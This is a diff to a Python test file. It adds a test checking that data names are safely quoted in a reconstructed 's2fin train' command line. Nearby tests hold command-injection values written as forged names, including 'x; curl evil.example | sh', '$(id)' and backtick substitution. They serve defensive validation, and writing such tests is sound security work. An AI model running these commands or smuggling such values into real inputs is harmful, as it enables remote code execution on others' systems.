@@ -60,6 +60,15 @@ def test_the_command_is_what_was_typed() -> None:
     )
 
 
+def test_data_in_memory_are_files_in_the_command() -> None:
+    named = ("hsi (DataArray)", "labels (GeoDataFrame 2)", "labels (DataArray); x", "$(x) (DataArray)")
+    files = tuple(UsedFile("hsi", name) for name in named)
+    assert command_of(RunRecord("train", files), "m.s2fin") == (
+        "s2fin train --hsi HSI.tif --hsi LABELS2.gpkg --hsi 'labels (DataArray); x' --hsi '$(x) (DataArray)' "
+        "--output m.s2fin"
+    )
+
+
 @pytest.mark.parametrize("name", ["x; curl evil.example | sh", "$(id)", "x y", "x\n", "X", "-x", "--x", "", "x`id`"])
 def test_no_shell_code_is_a_name_in_a_record(name: str) -> None:
     forged: list[dict[str, Any]] = [
